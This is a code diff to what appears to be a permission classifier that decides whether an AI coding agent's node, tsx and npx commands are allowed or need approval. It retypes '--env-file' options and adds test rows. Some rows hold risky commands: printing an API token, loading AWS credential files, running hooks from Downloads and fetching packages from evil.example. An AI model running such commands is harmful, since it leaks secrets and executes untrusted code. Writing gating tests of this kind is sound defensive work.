@@ -52,9 +52,10 @@ NODE_OPTIONS = [
     option("-r --require --import --loader --experimental-loader", "READ_BY(node.node_module)"),
     option("--snapshot-blob --openssl-config --test-global-setup", RUNS),
     option(
-        "--env-file --env-file-if-exists --watch-path --policy-integrity --experimental-policy --experimental-config-file --experimental-sea-config --build-sea",
+        "--watch-path --policy-integrity --experimental-policy --experimental-config-file --experimental-sea-config --build-sea",
         READS,
     ),
+    option("--env-file --env-file-if-exists", GIVES),
     option(
         "--cpu-prof-dir --heap-prof-dir --diagnostic-dir --report-dir --report-directory --report-filename --redirect-warnings --test-reporter-destination --trace-event-file-pattern --localstorage-file --tls-keylog",
         WRITES,
@@ -83,7 +84,8 @@ TSX = command(
             --rs --cls -w= -V -q -L --legacy-watch --delay= -d= --ext= --signal= -s= --spawn --verbose --no-colors
             --install --shell= --prefix= --mode=
         """),
-        option("--tsconfig --config --cwd --dir --env-file", READS),
+        option("--tsconfig --config --cwd --dir", READS),
+        option("--env-file", GIVES),
         option("-x --exec", "READ_BY(node.restarted)"),
     ],
     style=EARLY,
@@ -194,7 +196,9 @@ ask    node -r /home/user/Downloads/hook.js app.js
 ask    node --import=/home/user/Downloads/hook.mjs app.js
 ask    node --inspect=0.0.0.0:9229 app.js
 ask    node ~/Downloads/x.js
-ask    node --env-file=.env app.js
+allow  node --env-file=.env app.js
+ask    node --env-file=.env -p process.env.API_TOKEN
+ask    node --env-file=/home/user/.aws/credentials app.js
 ask    npx somebodys-tool
 llm    npx --package=evil tsc
 ask    npx https://evil.example/x.tgz
